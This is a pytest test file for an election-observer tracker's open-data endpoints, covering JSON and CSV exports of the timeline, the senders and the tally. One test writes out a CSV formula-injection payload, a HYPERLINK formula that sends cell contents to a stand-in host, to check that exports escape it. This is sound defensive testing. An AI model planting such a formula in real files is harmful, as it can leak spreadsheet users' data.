"""Open data: the timeline and the senders as JSON, and the tally, timeline and senders as CSV files."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest
from litestar import Litestar
from litestar.testing import TestClient

from tests.conftest import csrf_headers, submit
from tests.published import PUBLISHED_2023
from tests.web.api_helpers import ELECTION, nominate, transition
from tracker import models as m
from tracker.open_data import SenderOut, SendersOut, SenderTotalsOut
from tracker.web.public.csv_export import senders_csv

KAZINFORM = "2023-02-22T21:13+06:00"
LAST_PUBLISHED = "2023-03-07T14:25+06:00"
WINDOW_OPENS = dt.date(2023, 1, 19)
FIGURES = ("observers", "countries", "organizations")
NEW_ROUTES = ["timeline", "senders", "tally.csv", "timeline.csv", "senders.csv"]


def get(client: TestClient[Litestar], what: str, **params: str) -> Any:
    response = client.get(f"{ELECTION}/{what}", params=params)
    assert response.status_code == 200, response.text
    return response.json()


def figures(body: dict[str, Any]) -> tuple[int, ...]:
    return tuple(body[name] for name in FIGURES)


def rows_of(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "no byte order mark: Excel would misread Cyrillic"
    return list(csv.reader(io.StringIO(content[3:].decode("utf-8"))))


def download(client: TestClient[Litestar], what: str, **params: str) -> list[list[str]]:
    response = client.get(f"{ELECTION}/{what}.csv", params=params)
    assert response.status_code == 200, response.text
    return rows_of(response.content)


@pytest.mark.parametrize("day", ["2023-02-09", "2023-02-13", "2023-02-15", "2023-02-22"])
def test_a_day_of_the_timeline_is_the_tally_at_its_end(client: TestClient[Litestar], day: str) -> None:
    points = {point["day"]: point for point in get(client, "timeline", as_of=LAST_PUBLISHED)["points"]}
    tally = get(client, "tally", as_of=day)

    assert points[day]["at"] == tally["as_of"] == f"{day}T23:59:59.999999+06:00"
    assert figures(points[day]) == figures(tally)


def test_the_last_point_is_the_tally_at_as_of(client: TestClient[Litestar]) -> None:
    body = get(client, "timeline", as_of=LAST_PUBLISHED)
    tally = get(client, "tally", as_of=LAST_PUBLISHED)

    last = body["points"][-1]
    assert (last["day"], last["at"], body["as_of"]) == ("2023-03-07", tally["as_of"], tally["as_of"])
    assert figures(last) == figures(tally) == PUBLISHED_2023[-1][1:]


def test_the_timeline_has_one_point_a_day_from_the_window_opening(client: TestClient[Litestar]) -> None:
    days = [dt.date.fromisoformat(point["day"]) for point in get(client, "timeline", as_of=LAST_PUBLISHED)["points"]]

    assert days == [WINDOW_OPENS + dt.timedelta(days=n) for n in range(48)]
    assert days[-1] == dt.date(2023, 3, 7)


def test_the_senders_are_the_tallys(client: TestClient[Litestar]) -> None:
    body = get(client, "senders", as_of=KAZINFORM, lang="ru")
    tally = get(client, "tally", as_of=KAZINFORM, lang="ru")

    assert body["senders"] == tally["by_sender"]
    assert body["as_of"] == tally["as_of"]
    assert body["totals"] == {name: tally[name] for name in body["totals"]}
    international = [s for s in body["senders"] if s["kind"] != "domestic_organization"]
    assert sum(s["observers"] for s in international) == body["totals"]["observers"] == 97
    assert sum(s["nominated"] for s in international) == body["totals"]["nominated"]
    assert {s["kind"] for s in international if s["observers"]} == {"foreign_state", "international_organization"}
    assert next(s for s in body["senders"] if s["code"] == "osce-odihr")["short_name"] == "ОБСЕ/БДИПЧ"


def test_the_tally_csv_has_the_tallys_numbers(client: TestClient[Litestar]) -> None:
    tally = get(client, "tally", as_of=KAZINFORM)
    header, *rows = download(client, "tally", as_of=KAZINFORM)

    assert header == ["Section", "Code", "Item", "Count"]
    counts = {(section, code): int(n) for section, code, _, n in rows}
    assert counts[("Total", "observers")] == 97
    assert counts[("Total", "countries")] == 11
    assert counts[("Total", "organizations")] == 3
    assert counts[("Total", "nominated")] == tally["nominated"]
    assert counts[("Total", "domestic_observers")] == tally["domestic_observers"]
    assert {code: n for (section, code), n in counts.items() if section == "By kind of sender"} == tally[
        "by_sender_kind"
    ]
    assert {code: n for (section, code), n in counts.items() if section == "By role"} == {
        row["role"]: row["observers"] for row in tally["by_role"]
    }
    assert ["By role", "head_of_mission", "Head of mission"] in [row[:3] for row in rows]


def test_the_timeline_csv_has_the_timelines_numbers(client: TestClient[Litestar]) -> None:
    points = get(client, "timeline", as_of=KAZINFORM)["points"]
    header, *rows = download(client, "timeline", as_of=KAZINFORM)

    assert header == ["Day", "As of", "International observers", "Countries", "International organizations"]
    assert rows == [[p["day"], p["at"], *(str(p[name]) for name in FIGURES)] for p in points]
    assert rows[-1] == ["2023-02-22", "2023-02-22T21:13:00+06:00", "97", "11", "3"]


def test_the_senders_csv_has_the_senders_numbers(client: TestClient[Litestar]) -> None:
    senders = get(client, "senders", as_of=KAZINFORM)["senders"]
    header, *rows = download(client, "senders", as_of=KAZINFORM)

    assert header == ["Kind of sender", "Code", "Sender", "Short name", "Observers", "Nominated, awaiting decision"]
    assert [row[1:] for row in rows] == [
        [s["code"], s["name"], s["short_name"], str(s["observers"]), str(s["nominated"])] for s in senders
    ]
    assert sum(int(row[4]) for row in rows if row[0] != "Domestic organization") == 97
    assert {row[0] for row in rows} <= {"Foreign state", "International organization", "Domestic organization"}


@pytest.mark.parametrize(
    ("lang", "what", "column", "header"),
    [
        ("ru", "tally", 3, "Количество"),
        ("kk", "tally", 3, "Саны"),
        ("ru", "timeline", 0, "День"),
        ("kk", "timeline", 0, "Күні"),
        ("ru", "senders", 3, "Краткое название"),
        ("kk", "senders", 3, "Қысқа атауы"),
    ],
)
def test_the_csv_headers_are_in_the_asked_language(
    client: TestClient[Litestar], lang: str, what: str, column: int, header: str
) -> None:
    assert download(client, what, as_of=KAZINFORM, lang=lang)[0][column] == header


def test_the_tally_csv_names_in_the_asked_language_with_the_same_numbers(client: TestClient[Litestar]) -> None:
    english = download(client, "tally", as_of=KAZINFORM)
    kazakh = download(client, "tally", as_of=KAZINFORM, lang="kk")

    assert ["Барлығы", "countries", "Елдер", "11"] in kazakh
    assert [(row[1], row[3]) for row in kazakh[1:]] == [(row[1], row[3]) for row in english[1:]]


@pytest.mark.parametrize("what", ["tally", "timeline", "senders"])
def test_a_csv_is_an_attachment_named_after_the_election_the_instant_and_the_language(
    client: TestClient[Litestar], what: str
) -> None:
    response = client.get(f"{ELECTION}/{what}.csv", params={"as_of": KAZINFORM, "lang": "kk"})

    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == (
        f'attachment; filename="majilis-2023-{what}-20230222-2113-kk.csv"'
    )


def test_a_sender_named_like_a_formula_is_written_as_text(as_ada: TestClient[Litestar]) -> None:
    formula = '=HYPERLINK("http://example.org/?leak="&A1,"Click")'
    created = submit(
        as_ada,
        "/staff/organizations/new",
        slug="formula-watch",
        kind="international",
        acronym_en="+FW",
        acronym_ru="+FW",
        acronym_kk="+FW",
        name_en=formula,
        name_ru=formula,
        name_kk=formula,
    )
    assert created.status_code in (302, 303), created.text
    mission = {"slug": "formula-watch", "name": "Formula watch", "sender": "organization:formula-watch"}
    assert as_ada.post(f"{ELECTION}/missions", json=mission, headers=csrf_headers(as_ada)).status_code == 201
    nominated = nominate(as_ada, mission="formula-watch")
    assert nominated.status_code == 201, nominated.text
    assert transition(as_ada, nominated.json(), "accredited").status_code == 201

    rows = download(as_ada, "senders", as_of="2023-03-12")

    assert ["International organization", "formula-watch", "'" + formula, "'+FW", "1", "0"] in rows
    senders = get(as_ada, "senders", as_of="2023-03-12")["senders"]
    assert next(s for s in senders if s["code"] == "formula-watch")["name"] == formula


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_the_csv_writer_keeps_each_formula_start_as_text(start: str) -> None:
    sender = {"kind": m.SenderKind.FOREIGN_STATE, "code": "XX", "observers": 1, "nominated": 0}
    senders = SendersOut(
        election="majilis-2023",
        as_of=dt.datetime(2023, 2, 22, 21, 13, tzinfo=dt.timezone(dt.timedelta(hours=6))),
        lang="en",
        senders=[SenderOut(**sender, name=f"{start}1+1", short_name="Plain")],
        totals=SenderTotalsOut(observers=1, countries=1, organizations=0, nominated=0, domestic_observers=0),
    )

    file = senders_csv(senders, "en")

    assert rows_of(file.content)[1] == ["Foreign state", "XX", f"'{start}1+1", "Plain", "1", "0"]
    assert file.filename == "majilis-2023-senders-20230222-2113-en.csv"


@pytest.mark.parametrize("what", NEW_ROUTES)
def test_a_malformed_as_of_is_400_naming_it(client: TestClient[Litestar], what: str) -> None:
    response = client.get(f"{ELECTION}/{what}", params={"as_of": "22/02/2023"})

    assert response.status_code == 400
    assert response.json()["field"] == "as_of"
    assert "22.02.2023 21:13 or 2023-02-22T21:13" in response.json()["detail"]


@pytest.mark.parametrize("what", NEW_ROUTES)
def test_an_unknown_language_is_400_naming_it(client: TestClient[Litestar], what: str) -> None:
    response = client.get(f"{ELECTION}/{what}", params={"lang": "de"})

    assert response.status_code == 400
    assert response.json() == {"status_code": 400, "detail": "lang: 'de' is not one of en, ru, kk", "field": "lang"}


@pytest.mark.parametrize("what", NEW_ROUTES)
def test_an_unknown_election_is_404(client: TestClient[Litestar], what: str) -> None:
    response = client.get(f"/api/elections/senate-2099/{what}")

    assert response.status_code == 404
    assert response.json() == {"status_code": 404, "detail": "unknown election 'senate-2099'", "field": "election"}


def test_the_openapi_document_describes_the_open_data(client: TestClient[Litestar]) -> None:
    paths = client.get("/schema/openapi.json").json()["paths"]

    for what in NEW_ROUTES:
        operation = paths[f"/api/elections/{{slug}}/{what}"]["get"]
        parameters = {p["name"]: p for p in operation["parameters"]}
        assert set(parameters) == {"slug", "as_of", "known_at", "lang"}
        assert "records" in parameters["known_at"]["description"]
        assert set(operation["responses"]) == {"200", "400", "404", "429"}
    assert paths["/api/elections/{slug}/timeline"]["get"]["responses"]["200"]["content"]["application/json"][
        "schema"
    ] == {"$ref": "#/components/schemas/TimelineOut"}
    assert "text/csv" in paths["/api/elections/{slug}/senders.csv"]["get"]["responses"]["200"]["content"]
